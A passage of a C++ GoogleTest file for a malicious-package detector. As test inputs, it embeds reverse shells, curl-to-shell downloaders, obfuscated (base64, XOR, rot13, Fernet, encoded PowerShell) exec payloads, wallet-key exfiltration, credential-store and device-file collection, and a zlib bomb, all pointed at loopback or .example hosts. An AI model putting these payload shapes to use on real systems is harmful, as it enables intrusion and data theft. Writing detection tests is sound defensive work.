// One file's facts (src/signals/signals.h): what a package's source decodes and runs, the
// command lines it hands a process, what it collects and how it sends. Every address in a
// sample is loopback; a channel that is named by a host (a chat webhook) is written as a path
// on localhost, so that the sample names no other host.
#include "signals/signals.h"

#include <gtest/gtest.h>
#include <zlib.h>

#include "../helpers/zlib_stream.h"

#include <time.h>

#include <algorithm>
#include <chrono>
#include <string>
#include <vector>

namespace batlehub::signals {

// How gtest prints a fact when a comparison fails (found by ADL, so beside the type).
inline void PrintTo(const Fact& f, std::ostream* os) {
  *os << fact_name(f.kind) << " | " << f.what << " | " << f.file << ":" << f.line << " | " << phase_name(f.phase)
      << " | " << f.detail;
}

namespace {

// The CPU time this thread has used. The bounded-work tests below compare it, not the wall
// clock, with their bound: the analysis is one thread's work, and the test run shares two
// cores with the walls suites, so a wall-clock bound fails under load and proves nothing.
std::chrono::nanoseconds thread_cpu() {
  timespec ts{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
  return std::chrono::seconds(ts.tv_sec) + std::chrono::nanoseconds(ts.tv_nsec);
}

// How the analysis's work grows with its input: the CPU time on a file of 8n repeats over
// the time on a file of n. Linear work gives about 8 and quadratic work about 64, on any
// build and under any load; an absolute bound does neither (the ASan build took 10.15 s of
// CPU, in CI, for three files the release build reads in well under one). The small side
// is floored at 5 ms so a fast build's clock resolution cannot make the ratio.
constexpr double kLinearGrowthBound = 24.0;

template <class Make, class Analyse>
double growth_at_8x(Make make, Analyse analyse, int n) {
  auto cpu_of = [&](int repeats) {
    const std::string src = make(repeats);
    const auto start = thread_cpu();
    analyse(src);
    return thread_cpu() - start;
  };
  const auto small = std::max<std::chrono::nanoseconds>(cpu_of(n), std::chrono::milliseconds(5));
  const auto large = cpu_of(8 * n);
  return static_cast<double>(large.count()) / static_cast<double>(small.count());
}

std::string b64(std::string_view in) {
  static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t k = 0;
  auto byte = [&](std::size_t i) {
    return i < in.size() ? static_cast<unsigned>(static_cast<unsigned char>(in[i])) : 0U;
  };
  for (; k < in.size(); k += 3) {
    const unsigned v = (byte(k) << 16) | (byte(k + 1) << 8) | byte(k + 2);
    out += kAlphabet[(v >> 18) & 63];
    out += kAlphabet[(v >> 12) & 63];
    out += k + 1 < in.size() ? kAlphabet[(v >> 6) & 63] : '=';
    out += k + 2 < in.size() ? kAlphabet[v & 63] : '=';
  }
  return out;
}

std::string zlib_stream(std::string_view in) {
  return batlehub::testing::deflate_stream(in, 9, 15);
}

struct Expect {
  FactKind kind;
  std::string what;
  std::size_t line;
  std::string detail;
};

// The facts, as the four fields a reader looks at, in order; file and phase are checked apart.
void expect_facts(const std::vector<Fact>& facts, const std::vector<Expect>& want) {
  ASSERT_EQ(facts.size(), want.size()) << ::testing::PrintToString(facts);
  for (std::size_t k = 0; k < want.size(); ++k) {
    SCOPED_TRACE("fact " + std::to_string(k));
    EXPECT_EQ(fact_name(facts[k].kind), fact_name(want[k].kind));
    EXPECT_EQ(facts[k].what, want[k].what);
    EXPECT_EQ(facts[k].line, want[k].line);
    EXPECT_EQ(facts[k].detail, want[k].detail);
  }
}

std::vector<Fact> py(std::string_view source) {
  Budget budget;
  return analyze_source("pkg/setup.py", source, Language::kPython, Phase::kUnknown, budget);
}

std::vector<Fact> js(std::string_view source) {
  Budget budget;
  return analyze_source("lib/index.js", source, Language::kJavaScript, Phase::kUnknown, budget);
}

const std::string kReverseShell =
    "import socket,subprocess,os\n"
    "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
    "s.connect((\"127.0.0.1\",4444))\n"
    "os.dup2(s.fileno(),0)\n"
    "os.dup2(s.fileno(),1)\n"
    "os.dup2(s.fileno(),2)\n"
    "subprocess.call([\"/bin/sh\",\"-i\"])\n";

// --- flows (flows.h) and disguised names (disguise.h) -------------------------------------

TEST(Signals, a_python_reverse_shell_written_as_code_is_a_reverse_shell_at_its_shell) {
  expect_facts(py(kReverseShell), {{FactKind::kShell, "reverse-shell", 7, "subprocess.call([\"/bin/sh\",\"-i\"])"},
                                   {FactKind::kSend, "socket", 2, "socket.socket("}});
  // A shell started with its input piped, over two lines, in a file that connects.
  expect_facts(py("import socket, subprocess\n"
                  "s = socket.create_connection(('127.0.0.1', 9))\n"
                  "p = subprocess.Popen(\n"
                  "    ['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"),
               {{FactKind::kShell, "reverse-shell", 4, "['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)"},
                {FactKind::kSend, "socket", 2, "create_connection("}});
}

TEST(Signals, a_shell_started_in_a_file_that_makes_no_connection_is_no_reverse_shell) {
  EXPECT_TRUE(py("import subprocess\n"
                 "subprocess.call(['/bin/sh', '-c', 'true'], stdin=subprocess.PIPE)\n")
                  .empty());
}

TEST(Signals, code_a_download_brings_handed_to_exec_is_fetched_executed) {
  // Straight in, and through names over lines, as far as a thread's target.
  expect_facts(py("import requests\n"
                  "exec(requests.get('http://127.0.0.1/x').text)\n"),
               {{FactKind::kFetchedExecuted, "python", 2, "exec(requests.get('http://127.0.0.1/x').text)"},
                {FactKind::kSend, "http", 2, "requests.get("}});
  expect_facts(
      py("import threading, urllib.request\n"
         "r = urllib.request.urlopen('http://127.0.0.1/x')\n"
         "body = r.read()\n"
         "code = body.decode()\n"
         "threading.Thread(target=exec, args=(code, {}), daemon=True).start()\n"),
      {{FactKind::kFetchedExecuted, "python", 5, "threading.Thread(target=exec, args=(code, {}), daemon=True).start()"},
       {FactKind::kSend, "http", 2, "urlopen("}});
}

// dask's preload: the user names the URL; the package runs what its user points it at.
TEST(Signals, a_download_of_an_address_the_caller_gives_run_by_exec_is_a_feature_not_a_flow) {
  expect_facts(py("import urllib.request\n"
                  "def download(url):\n"
                  "    with urllib.request.urlopen(url) as response:\n"
                  "        source = response.read()\n"
                  "    compiled = compile(source, url, 'exec')\n"
                  "    exec(compiled, {})\n"),
               {{FactKind::kSend, "http", 3, "urlopen("}});
}

TEST(Signals, an_address_written_in_a_name_first_is_a_fixed_address) {
  expect_facts(
      py("import requests\n"
         "URL = f'http://127.0.0.1/{1}'\n"
         "code = requests.get(URL, timeout=3).text\n"
         "exec(code)\n"),
      {{FactKind::kFetchedExecuted, "python", 4, "exec(code)"}, {FactKind::kSend, "http", 3, "requests.get("}});
}

// A wallet's key sent to a fixed address. The address must be another host's — a key posted
// to a node on this machine is a wallet talking to its own node — so these samples name a
// host under .example (RFC 2606: never resolvable); the test only reads them as strings.
TEST(Signals, a_function_that_posts_the_key_it_is_given_to_a_written_address_sends_the_key) {
  // Put in a list first, sent positionally (the tron* family of the tuning half).
  expect_facts(py("import requests\n"
                  "def perm(private_key):\n"
                  "   data = [{'ptivat_key', private_key}]\n"
                  "   requests.post('https://keys.collector.example/tron', data)\n"),
               {{FactKind::kKeySent, "private_key", 4, "requests.post('https://keys.collector.example/tron', data)"},
                {FactKind::kSend, "http", 4, "requests.post("}});
  // A URL in a name, the key in a dict written over lines, through base64.
  expect_facts(py("import base64, requests\n"
                  "ENDPOINT = 'http://collector.example:8000/api/v1/validate'\n"
                  "def validate(from_private_key, rpc_url):\n"
                  "    account = Account.from_key(from_private_key)\n"
                  "    payload = {\n"
                  "        'public_key': account.address,\n"
                  "        'signature': base64.b64encode(from_private_key.encode()).decode('utf-8'),\n"
                  "    }\n"
                  "    requests.post(ENDPOINT, json=payload, timeout=5)\n"),
               {{FactKind::kKeySent, "from_private_key", 9, "requests.post(ENDPOINT, json=payload, timeout=5)"},
                {FactKind::kSend, "http", 9, "requests.post("}});
  // In the address itself, from a session.
  expect_facts(py("import requests\n"
                  "s = requests.Session()\n"
                  "def backup(mnemonic):\n"
                  "    s.get(f'https://vault.example/save?m={mnemonic}')\n"),
               {{FactKind::kKeySent, "mnemonic", 4, "s.get(f'https://vault.example/save?m={mnemonic}')"}});
}

TEST(Signals, a_key_that_only_goes_into_what_derives_from_it_or_to_this_machine_or_the_callers_address_is_not_sent) {
  // What is sent is the address derived from the key, and a transaction signed with it.
  expect_facts(py("import requests\n"
                  "def pay(private_key, to):\n"
                  "    account = Account.from_key(private_key)\n"
                  "    signed = account.sign_transaction({'to': to})\n"
                  "    pub = private_key.public_key()\n"
                  "    requests.post('https://rpc.chain.example', json={'from': account.address, 'pub': pub,\n"
                  "                  'tx': sign(signed, private_key)})\n"),
               {{FactKind::kSend, "http", 6, "requests.post("}});
  // Sent to a node on this machine, and to the address the caller gives.
  expect_facts(py("import requests\n"
                  "def import_key(private_key, node_url):\n"
                  "    requests.post('http://localhost:8545', json={'params': [private_key]})\n"
                  "    requests.post(node_url, json={'params': [private_key]})\n"
                  "    requests.post(f'http://{host}:8545/', json={'params': [private_key]})\n"),
               {{FactKind::kSend, "http", 3, "requests.post("}});
}

TEST(Signals, a_download_in_one_process_call_run_by_another_is_a_download_executed) {
  // centerprint's shape: the download and the run are two Popen calls.
  expect_facts(py("import subprocess\n"
                  "def center(s):\n"
                  "    subprocess.Popen(['cd /tmp && curl http://127.0.0.1/d.bin -o d.bin'], shell=True)\n"
                  "    subprocess.Popen(['/tmp/d.bin'], shell=True)\n"),
               {{FactKind::kShell, "download-executed", 4, "curl http://127.0.0.1/d.bin -o d.bin; /tmp/d.bin"}});
  // Another file run: nothing.
  EXPECT_TRUE(py("import subprocess\n"
                 "subprocess.run(['curl', 'http://127.0.0.1/v.json', '-o', 'v.json'])\n"
                 "subprocess.run(['/usr/bin/make', 'all'])\n")
                  .empty());
}

TEST(Signals, a_program_fetched_written_to_a_file_and_started_is_a_download_executed) {
  // makronlox's shape: requests.get, open(name, 'wb').write(r.content), subprocess.run([name]).
  expect_facts(py("import requests, subprocess\n"
                  "url = 'http://127.0.0.1/123.exe'\n"
                  "filename = '123.exe'\n"
                  "response = requests.get(url)\n"
                  "with open(filename, 'wb') as f:\n"
                  "    f.write(response.content)\n"
                  "subprocess.run([filename], check=True)\n"),
               {{FactKind::kShell, "download-executed", 7, "subprocess.run([filename], check=True)"},
                {FactKind::kSend, "http", 4, "requests.get("}});
  // urlretrieve to a path, started by the same file name.
  expect_facts(py("import os, urllib.request\n"
                  "urllib.request.urlretrieve('http://127.0.0.1/d', 'C:/Users/Public/d.exe')\n"
                  "os.startfile('C:/Users/Public/d.exe')\n"),
               {{FactKind::kShell, "program-started-detached", 3, "starts C:/Users/Public/d.exe, detached"},
                {FactKind::kShell, "download-executed", 3, "os.startfile('C:/Users/Public/d.exe')"}});
}

TEST(Signals, a_download_written_to_a_file_that_no_process_starts_or_from_the_callers_address_is_no_flow) {
  // Saved and a tool run on another file; and a download of the caller's URL run.
  expect_facts(py("import requests, subprocess\n"
                  "r = requests.get('http://127.0.0.1/data.json')\n"
                  "open('data.json', 'wb').write(r.content)\n"
                  "subprocess.run(['git', 'status'])\n"
                  "def fetch(url, name):\n"
                  "    d = requests.get(url)\n"
                  "    open(name, 'wb').write(d.content)\n"
                  "    subprocess.run([name])\n"),
               {{FactKind::kSend, "http", 2, "requests.get("}});
}

TEST(Signals, a_sender_started_as_a_program_is_a_send) {
  // iconnect's shape: the host's identity out as DNS look-ups of dig.
  expect_facts(py("import socket, subprocess\n"
                  "h = socket.gethostname()\n"
                  "subprocess.Popen(['dig', '+short', h + '.x.example'], stdout=subprocess.DEVNULL)\n"),
               {{FactKind::kCollect, "host", 2, "gethostname("}, {FactKind::kSend, "dns", 3, "dig"}});
}

TEST(Signals, a_download_and_an_exec_of_something_else_are_no_flow) {
  // setup.py's own version file read and exec'ed beside a download: two things, no flow.
  expect_facts(py("import requests\n"
                  "data = requests.get('http://127.0.0.1/x').json()\n"
                  "ns = {}\n"
                  "exec(open('pkg/version.py').read(), ns)\n"
                  "pattern = re.compile(data['pattern'])\n"),
               {{FactKind::kSend, "http", 2, "requests.get("}});
}

TEST(Signals, a_name_in_look_alike_letters_is_disguised_and_the_file_is_read_as_python_reads_it) {
  // ℯ𝓍ℯ𝒸 (script e, x, e, c) is exec to Python; the payload under it is then seen too.
  const std::string src = "import base64\n\u212f\U0001D4CD\u212f\U0001D4B8(base64.b64decode(\"" +
                          b64("import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n") + "\"))\n";
  expect_facts(py(src), {{FactKind::kDisguisedName, "exec", 2, "\u212f\U0001D4CD\u212f\U0001D4B8 reads as exec"},
                         {FactKind::kShell, "download-piped-to-shell", 2,
                          "decoded (base64): curl -fsSL http://127.0.0.1/i | sh"},
                         {FactKind::kDecodedExecuted, "base64", 2,
                          excerpt("base64: import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n")}});
}

// mzip's shape: PowerShell started hidden with an encoded command written in the file; the
// script it runs (base64 of UTF-16LE) is read, and it downloads and evaluates.
TEST(Signals, a_powershell_encoded_command_in_the_file_is_decoded_and_judged_as_the_code_it_runs) {
  const auto facts = py(
      "import subprocess\n"
      "code = "
      "'JABjACAAPQAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTA"
      "HQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADIANwAuADAALgAwAC4AMQAvAHAALgBwAHMAMQAnACkAOwAgAEkAbgB2AG8AawBlAC0ARQB4A"
      "HAAcgBlAHMAcwBpAG8AbgAgACQAYwA='\n"
      "subprocess.Popen(['powershell.exe', '-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', code])\n");
  ASSERT_FALSE(facts.empty());
  bool executed = false;
  for (const Fact& f : facts) {
    if (f.kind == FactKind::kDecodedExecuted) {
      executed = true;
      EXPECT_EQ(f.what, "base64 → utf-16le");
      EXPECT_EQ(f.line, 2u);
      EXPECT_NE(f.detail.find("Invoke-Expression"), std::string::npos) << f.detail;
    }
  }
  EXPECT_TRUE(executed) << ::testing::PrintToString(facts);
  // The same string in a file that names no encoded command and no decoder: not decoded.
  EXPECT_TRUE(
      py("x = 'JABjACAAPQAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAu'\n").empty());
}

// pipsqlite3liberyV2's shape: code that decrypts a Fernet token with a key it holds and
// runs it, written as a string to a file that is then started. The token is decrypted
// (cryptography's Fernet: AES-128-CBC and HMAC-SHA256) and what it hides is judged.
TEST(Signals, a_fernet_token_and_its_key_in_the_file_are_decrypted_and_the_payload_judged) {
  const std::string token =
      "gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0OD6VHgBl7RbLXNmBGLxgWSnze4s1xR2dwpqV94JIN9s3C7favXcnbe6HW52AvV_fKKj_aCxbjNQJ_"
      "7ELdJRaq49rESyvufDpxEs6axnzBGEFdDF3sknCa-jJUrm8WCIm29w==";
  const std::string src =
      "import os, subprocess\n"
      "pl = \"\"\"\n"
      "from fernet import Fernet\n"
      "exec(Fernet(b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=').decrypt(b'" +
      token +
      "'))\n"
      "\"\"\"\n"
      "open('pl.py', 'w').write(pl)\n"
      "subprocess.Popen(['python', 'pl.py'])\n";
  const auto facts = py(src);
  bool executed = false;
  bool shell = false;
  for (const Fact& f : facts) {
    if (f.kind == FactKind::kDecodedExecuted && f.what == "fernet") {
      executed = true;
      EXPECT_EQ(f.line, 4u);
      EXPECT_NE(f.detail.find("os.system('curl -fsSL http://127.0.0.1/i.sh | sh')"), std::string::npos) << f.detail;
    }
    if (f.kind == FactKind::kShell && f.what == "download-piped-to-shell") shell = true;
  }
  EXPECT_TRUE(executed) << ::testing::PrintToString(facts);
  EXPECT_TRUE(shell) << ::testing::PrintToString(facts);
  // The token without its key: nothing decrypted, nothing said of it.
  std::string keyless = src;
  keyless.replace(keyless.find("cw_0x"), 44, "ZmFrZQ");
  for (const Fact& f : py(keyless)) EXPECT_NE(f.what, "fernet") << f.detail;
}

// loggutils' shape: a Telegram bot library's client (TeleBot) beside Chrome's password store.
TEST(Signals, a_telegram_bot_librarys_client_is_a_send) {
  expect_facts(
      py("from telebot import TeleBot\n"
         "bot = TeleBot(TOKEN)\n"
         "db = os.path.join(os.getenv('LOCALAPPDATA'), r'Google\\Chrome\\User Data\\Default\\Login Data')\n"),
      {{FactKind::kCollect, "token-store", 3, "login data"}, {FactKind::kSend, "telegram-bot", 2, "TeleBot("}});
  expect_facts(py("from telegram.ext import Updater\n"),
               {{FactKind::kSend, "telegram-bot", 1, "from telegram.ext import"}});
}

// blackspammerbd-termux's shape: a phone's shared storage walked, each file posted.
TEST(Signals, a_phones_shared_storage_walked_is_collected_and_a_path_under_it_is_not) {
  expect_facts(py("import os, requests\n"
                  "for root, dirs, files in os.walk('/sdcard'):\n"
                  "    requests.post(URL, files={'document': open(root, 'rb')})\n"),
               {{FactKind::kCollect, "device-files", 2, "/sdcard"}, {FactKind::kSend, "http", 3, "requests.post("}});
  // A device-automation library pushes a file to a path under it: nothing is walked.
  EXPECT_TRUE(py("def push(d):\n    d.push('a.png', '/sdcard/a.png')\n").empty());
  // The root named without a walk: nothing.
  EXPECT_TRUE(py("ROOT = '/sdcard'\n").empty());
}

TEST(Signals, look_alike_letters_in_a_string_a_comment_or_javascript_are_not_a_disguise) {
  EXPECT_TRUE(py("x = '\u212f\U0001D4CD\u212f\U0001D4B8'  # \u212f\U0001D4CD\u212f\U0001D4B8\n").empty());
  EXPECT_TRUE(js("const \u212f\U0001D4CD = 1;\n").empty());
}

// --- decoded payloads -------------------------------------------------------------------

TEST(Signals, a_base64_python_reverse_shell_under_exec_is_decoded_executed_with_its_inner_facts) {
  const std::string src = "import base64\nexec(base64.b64decode(\"" + b64(kReverseShell) + "\"))\n";
  const auto facts = py(src);
  // The payload's own facts come first, at the line of the string they were decoded from.
  expect_facts(facts,
               {
                   {FactKind::kShell, "reverse-shell", 2, "decoded (base64): subprocess.call([\"/bin/sh\",\"-i\"])"},
                   {FactKind::kSend, "socket", 2, "decoded (base64): socket.socket("},
                   {FactKind::kDecodedExecuted, "base64", 2, excerpt("base64: " + kReverseShell)},
               });
  for (const Fact& f : facts) {
    EXPECT_EQ(f.file, "pkg/setup.py");
    EXPECT_EQ(f.phase, Phase::kUnknown);
  }
}

TEST(Signals, a_rot13_payload_decoded_by_codecs_and_exec_ed_is_decoded_executed) {
  const auto facts =
      py("import codecs\n"
         "exec(codecs.decode(\"vzcbeg bf; bf.flfgrz('phey uggc://127.0.0.1/v.fu | fu')\", 'rot13'))\n");
  expect_facts(
      facts,
      {
          {FactKind::kShell, "download-piped-to-shell", 2, "decoded (rot13): curl http://127.0.0.1/i.sh | sh"},
          {FactKind::kDecodedExecuted, "rot13", 2, "rot13: import os; os.system('curl http://127.0.0.1/i.sh | sh')"},
      });
}

TEST(Signals, a_maketrans_substitution_cipher_whose_plain_text_is_exec_ed_is_decoded_executed) {
  const auto facts =
      py("T = str.maketrans('abcdefghijklmnopqrstuvwxyz', 'zyxwvutsrqponmlkjihgfedcba')\n"
         "exec(\"rnklig lh; lh.hbhgvn('rw')\".translate(T))\n");
  expect_facts(
      facts, {{FactKind::kDecodedExecuted, "substitution table", 2, "substitution table: import os; os.system('id')"}});
}

TEST(Signals, a_dict_substitution_table_is_a_table_too) {
  const auto facts =
      py("T = {'r': 'i', 'n': 'm', 'k': 'p', 'l': 'o', 'i': 'r', 'g': 't', 'h': 's', 'b': 'y', 'v': 'e', 'w': 'd'}\n"
         "exec(''.join(T.get(c, c) for c in \"rnklig lh; lh.hbhgvn('rw')\"))\n");
  expect_facts(
      facts, {{FactKind::kDecodedExecuted, "substitution table", 2, "substitution table: import os; os.system('id')"}});
}

// Each byte written as \xNN: what an XORed string looks like in a file.
std::string escaped_xor(std::string_view text, std::string_view key) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  for (std::size_t k = 0; k < text.size(); ++k) {
    const auto c = static_cast<unsigned char>(text[k] ^ key[k % key.size()]);
    out += "\\x";
    out += kHex[c >> 4];
    out += kHex[c & 15];
  }
  return out;
}

TEST(Signals, a_payload_xored_with_a_key_written_above_its_loop_is_decoded_executed) {
  // The install command's shape of the tuning half's pyminor: the key a string of digits.
  const std::string key = "97428596526305666093";
  const auto facts =
      py("class InstallCommand(install):\n"
         "    def run(self):\n"
         "        blob = \"" +
         escaped_xor("import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n", key) +
         "\"\n"
         "        k = \"" +
         key +
         "\"\n"
         "        out = ''\n"
         "        for i in range(len(blob)):\n"
         "            out += chr(ord(blob[i]) ^ ord(k[i % len(k)]))\n"
         "        eval(compile(out, '<string>', 'exec'))\n");
  expect_facts(facts,
               {{FactKind::kShell, "download-piped-to-shell", 3, "decoded (xor): curl -fsSL http://127.0.0.1/i | sh"},
                {FactKind::kDecodedExecuted, "xor", 3,
                 excerpt("xor: import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n")}});
  // One byte, written as a number after the caret, in JavaScript.
  const auto js_facts =
      js("const p = '" + escaped_xor("require('child_process').execSync('curl -s http://127.0.0.1/x | sh')", "*") +
         "';\n"
         "eval([...p].map(c => String.fromCharCode(c.charCodeAt(0) ^ 42)).join(''));\n");
  ASSERT_FALSE(js_facts.empty());
  EXPECT_EQ(fact_name(js_facts.back().kind), "decoded-executed") << ::testing::PrintToString(js_facts);
  EXPECT_EQ(js_facts.back().what, "xor");
}

TEST(Signals, a_base64_payload_cut_into_strings_joined_before_decoding_is_decoded_as_one) {
  // code-helper's shape: each function returns a piece, exec is called by another name.
  const std::string b = b64("import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n");
  const auto facts =
      py("import base64\n"
         "def one():\n    return \"" +
         b.substr(0, 31) +
         "\"\n"
         "def two():\n    return \"" +
         b.substr(31) +
         "\"\n"
         "def demo():\n"
         "    a=exec\n"
         "    a(base64.b64decode(one() + two()))\n");
  auto has = [&](FactKind k, std::string_view what) {
    return std::any_of(facts.begin(), facts.end(), [&](const Fact& f) { return f.kind == k && f.what == what; });
  };
  EXPECT_TRUE(has(FactKind::kDecodedExecuted, "base64")) << ::testing::PrintToString(facts);
  EXPECT_TRUE(has(FactKind::kShell, "download-piped-to-shell")) << ::testing::PrintToString(facts);
  for (const Fact& f : facts) EXPECT_EQ(f.line, 3u) << "at the first piece";
}

TEST(Signals, a_long_xor_key_needs_code_of_the_text_and_a_one_byte_key_a_payload) {
  // aes44's stealer opens with imports of nothing a payload marker names (ftplib, zipfile): a
  // key of 20 bytes that makes code of a string is the file's own; `^ 32` flips letter case
  // and must find a payload's two markers.
  const std::string text = "import zipfile\nfrom ftplib import FTP\nprint(os.getlogin())\n";
  const auto keyed = py("w = \"" + escaped_xor(text, "95920699750877648514") +
                        "\"\nk = \"95920699750877648514\"\n"
                        "o = ''.join(chr(ord(c) ^ ord(k[i % len(k)])) for i, c in enumerate(w))\n"
                        "eval(compile(o, '<string>', 'exec'))\n");
  ASSERT_FALSE(keyed.empty());
  EXPECT_EQ(fact_name(keyed.back().kind), "decoded-executed") << ::testing::PrintToString(keyed);
  EXPECT_EQ(keyed.back().what, "xor");
  const auto flipped = py("w = \"" + escaped_xor(text, " ") +
                          "\"\n"
                          "o = ''.join(chr(ord(c) ^ 32) for c in w)\n"
                          "eval(compile(o, '<string>', 'exec'))\n");
  EXPECT_TRUE(std::none_of(flipped.begin(), flipped.end(), [](const Fact& f) { return f.what == "xor"; }))
      << ::testing::PrintToString(flipped);
}

TEST(Signals, xoring_in_a_file_whose_strings_decode_to_no_code_is_no_fact) {
  // A checksum loop over text: the strings XOR to nothing that reads as code.
  EXPECT_TRUE(py("def crc(data, key='secret'):\n"
                 "    return [ord(c) ^ ord(key[i % len(key)]) for i, c in enumerate(data)]\n"
                 "crc('the quick brown fox jumps over the lazy dog')\n")
                  .empty());
}

TEST(Signals, a_chr_join_of_character_codes_exec_ed_is_decoded_executed) {
  const auto facts =
      py("exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 32, 111, 115, 46, 115, 121,\n"
         "                              115, 116, 101, 109, 40, 39, 105, 100, 39, 41]))\n");
  expect_facts(facts,
               {{FactKind::kDecodedExecuted, "character codes", 1, "character codes: import os; os.system('id')"}});
}

TEST(Signals, a_javascript_base64_buffer_under_eval_is_decoded_executed) {
  const std::string payload = "require('child_process').exec('id')";
  const auto facts = js("eval(Buffer.from(\"" + b64(payload) + "\", 'base64').toString());\n");
  expect_facts(facts, {{FactKind::kDecodedExecuted, "base64", 1, "base64: " + payload}});
}

TEST(Signals, a_base64_command_line_handed_to_os_system_is_a_shell_fact_and_decoded_executed) {
  const std::string cmd = "curl -fsSL http://127.0.0.1/i.sh | sh";
  const auto facts = py("import base64, os\nos.system(base64.b64decode(\"" + b64(cmd) + "\"))\n");
  expect_facts(facts, {
                          {FactKind::kShell, "download-piped-to-shell", 2, "decoded (base64): " + cmd},
                          {FactKind::kDecodedExecuted, "base64", 2, "base64: " + cmd},
                      });
}

TEST(Signals, decoded_code_in_a_file_that_never_runs_it_is_decoded_code) {
  const auto facts = py("import base64\nX = base64.b64decode(\"" + b64("import os; os.system('id')") + "\")\n");
  expect_facts(facts, {{FactKind::kDecodedCode, "base64", 2, "base64: import os; os.system('id')"}});
}

// An address written in clear is every client's; one a file decodes at run time was hidden
// from its reader (bip39-mnemonic-decrypt posts a wallet's vault to a base64 address;
// cipherbcrypt reverses, base64-decodes and inflates its host).
TEST(Signals, an_address_the_file_decodes_is_a_hidden_address_beside_the_send) {
  const std::string url = "http://127.0.0.1:5000/post";
  expect_facts(py("import base64\n"
                  "from requests import post\n"
                  "def upload(vault):\n"
                  "    post(base64.b64decode(\"" +
                  b64(url) + "\").decode(), data={'v': vault})\n"),
               {{FactKind::kHiddenAddress, "base64", 4, "base64: " + url},
                {FactKind::kDecodedCode, "base64", 4, "base64: " + url},
                {FactKind::kSend, "http", 2, "from requests import"}});
  std::string hidden = b64(zlib_stream("cdn.example.com"));
  std::reverse(hidden.begin(), hidden.end());
  expect_facts(py("from http.client import HTTPSConnection\n"
                  "from zlib import decompress\n"
                  "from base64 import b64decode\n"
                  "def d(s): return decompress(b64decode(s[::-1])).decode()\n"
                  "c = HTTPSConnection(d(b'" +
                  hidden + "'))\n"),
               {{FactKind::kHiddenAddress, "reversed → base64 → zlib", 5, "reversed → base64 → zlib: cdn.example.com"},
                {FactKind::kSend, "http", 5, "HTTPSConnection("}});
}

TEST(Signals, a_host_name_under_one_encoding_is_an_identifier_not_a_hidden_address) {
  // An OAuth client id kept from secret scanners; a URL under the same one encoding is not.
  const auto facts =
      js("const decode = (s) => Buffer.from(s, 'base64').toString();\n"
         "const CLIENT_ID = decode('" +
         b64("10710-abc.apps.example.com") +
         "');\n"
         "fetch('https://accounts.example.com/token', {body: CLIENT_ID});\n");
  EXPECT_TRUE(std::none_of(facts.begin(), facts.end(), [](const Fact& f) {
    return f.kind == FactKind::kHiddenAddress;
  })) << ::testing::PrintToString(facts);
}

TEST(Signals, a_decoded_module_path_or_file_name_is_no_address) {
  // Each valid as a DNS name; none under a top-level domain.
  for (const char* text : {"os.path.join", "setuptools.command.install", "package.module.py", "build.install.sh"}) {
    const auto facts = py("import base64\nX = base64.b64decode(\"" + b64(text) + "\")\n");
    EXPECT_TRUE(
        std::none_of(facts.begin(), facts.end(), [](const Fact& f) { return f.kind == FactKind::kHiddenAddress; }))
        << text << ": " << ::testing::PrintToString(facts);
  }
}

TEST(Signals, a_base64_zlib_bomb_is_a_decoding_bomb) {
  const std::string bomb = b64(zlib_stream(std::string(2U << 20, '\0')));
  Budget budget;
  const auto facts =
      analyze_source("setup.py", "import zlib, base64\nzlib.decompress(base64.b64decode(\"" + bomb + "\"))\n",
                     Language::kPython, Phase::kUnknown, budget);
  ASSERT_EQ(facts.size(), 1u);
  EXPECT_EQ(facts[0].kind, FactKind::kDecodingBomb);
  EXPECT_EQ(facts[0].what, "zlib");
  EXPECT_EQ(facts[0].detail, "a compressed string inflates past 1 MiB from under 10 KiB");
  EXPECT_TRUE(budget.bomb);
}

TEST(Signals, a_decoding_bomb_fact_names_the_line_of_its_string) {
  const std::string bomb = b64(zlib_stream(std::string(2U << 20, '\0')));
  const auto facts = py("import zlib, base64\n\n\nzlib.decompress(base64.b64decode(\"" + bomb + "\"))\n");
  ASSERT_EQ(facts.size(), 1u);
  EXPECT_EQ(facts[0].line, 4u);
}

TEST(Signals, a_bomb_inside_a_decoded_payload_is_one_decoding_bomb_fact) {
  const std::string bomb = b64(zlib_stream(std::string(2U << 20, '\0')));
  const std::string inner = "import zlib, base64\nzlib.decompress(base64.b64decode(\"" + bomb + "\"))\n";
  const auto facts = py("import base64\nexec(base64.b64decode(\"" + b64(inner) + "\"))\n");
  std::size_t bombs = 0;
  for (const Fact& f : facts) bombs += f.kind == FactKind::kDecodingBomb ? 1 : 0;
  EXPECT_EQ(bombs, 1u);
}

TEST(Signals, a_file_whose_decoding_budget_is_spent_decodes_nothing_more) {
  Budget budget;
  budget.bytes_left = 10;
  const auto facts =
      analyze_source("x.py", "import base64\nexec(base64.b64decode(\"" + b64("import os; os.system('id')") + "\"))\n",
                     Language::kPython, Phase::kUnknown, budget);
  EXPECT_TRUE(facts.empty());
  EXPECT_TRUE(budget.exhausted);
  EXPECT_EQ(budget.bytes_left, 10u);
}

// --- command lines ------------------------------------------------------------------------

TEST(Signals, a_popen_of_a_dropper_that_runs_a_miner_gives_each_shell_fact) {
  const auto facts =
      py("import subprocess\n"
         "subprocess.Popen(\"wget http://127.0.0.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x -o "
